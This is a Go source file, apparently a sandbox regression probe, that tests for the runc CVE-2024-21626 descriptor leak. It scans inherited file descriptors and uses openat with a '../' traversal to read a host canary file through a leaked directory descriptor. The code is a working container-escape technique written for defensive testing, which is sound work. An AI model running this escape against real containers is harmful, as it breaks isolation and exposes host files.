//go:build linux

// Probe fd_leak lists its own open descriptors and working directory:
// anything beyond stdin/stdout/stderr inherited from agentkernel (a
// directory fd or a host file) is a way out (runc CVE-2024-21626). The
// test leaves a host directory descriptor open (not close-on-exec) in the
// agentkernel process, as careless callers do; through it the probe tries
// to read the host canary.
package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"

	"github.com/agentkernel/agentkernel/test/attack/probes/internal/probe"
)

const name = "fd_leak"

func main() { probe.Run(name, attack, control) }

func attack() {
	// Read the fd table before the Go runtime opens anything else.
	var leaked []string
	for fd := 3; fd < 1024; fd++ {
		var st unix.Stat_t
		if unix.Fstat(fd, &st) != nil {
			continue
		}
		// Descriptors this process opened itself (the Go runtime keeps
		// cgroup CPU files open) are close-on-exec; inherited ones cannot be.
		if fl, err := unix.FcntlInt(uintptr(fd), unix.F_GETFD, 0); err == nil && fl&unix.FD_CLOEXEC != 0 {
			continue
		}
		t, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
		leaked = append(leaked, fmt.Sprintf("fd %d -> %s", fd, t))
	}
	// A directory inherited from the host is a way out of every mount
	// namespace: list it, and read the host canary through it.
	canary, token := os.Getenv("ATTACK_HOST_CANARY"), os.Getenv("ATTACK_TOKEN")
	var through []string
	for fd := 3; fd < 1024 && canary != ""; fd++ {
		var st unix.Stat_t
		if unix.Fstat(fd, &st) != nil || st.Mode&unix.S_IFMT != unix.S_IFDIR {
			continue
		}
		if fl, err := unix.FcntlInt(uintptr(fd), unix.F_GETFD, 0); err == nil && fl&unix.FD_CLOEXEC != 0 {
			continue
		}
		buf := make([]byte, 8192)
		unix.Seek(fd, 0, 0) // the offset is shared with every holder of the descriptor
		if n, err := unix.Getdents(fd, buf); err == nil {
			through = append(through, fmt.Sprintf("fd %d: getdents read %d bytes of host directory entries", fd, n))
		}
		for _, rel := range []string{filepath.Base(canary), "../../../../../../../../.." + canary} {
			nfd, err := unix.Openat(fd, rel, unix.O_RDONLY, 0)
			if err != nil {
				through = append(through, fmt.Sprintf("fd %d: openat(%s): %v", fd, rel, err))
				continue
			}
			b := make([]byte, 256)
			n, _ := unix.Read(nfd, b)
			unix.Close(nfd)
			if strings.Contains(string(b[:n]), token) {
				report("allowed", fmt.Sprintf("read the host canary through inherited fd %d (%s); inherited: %s", fd, rel, strings.Join(leaked, ", ")))
			}
		}
	}
	cwd, err := unix.Getwd()
	if err != nil || !strings.HasPrefix(cwd, "/") {
		leaked = append(leaked, fmt.Sprintf("cwd outside root: %q %v", cwd, err))
	}
	if root, _ := os.Readlink("/proc/self/root"); root != "/" {
		leaked = append(leaked, "root is "+root)
	}
	if len(leaked) > 0 {
		report("allowed", "inherited: "+strings.Join(leaked, ", ")+"; "+strings.Join(through, "; "))
	}
	ents, _ := filepath.Glob("/proc/self/fd/*")
	report("blocked", fmt.Sprintf("only stdio inherited (%d fds now open), cwd %s", len(ents), cwd))
}

// control: the attack, started on the host with the canary's directory
// open on its descriptor 3 (as a careless caller leaks one), finds the
// descriptor and reads the host canary through it.
func control() {
	dir, err := os.Open(filepath.Dir(os.Getenv("ATTACK_HOST_CANARY")))
	if err != nil {
		report(probe.Error, err.Error())
	}
	defer dir.Close()
	probe.AttackReaches(name, func(c *exec.Cmd) { c.ExtraFiles = []*os.File{dir} }, nil)
}

func report(result, detail string) { probe.Report(name, result, detail) }
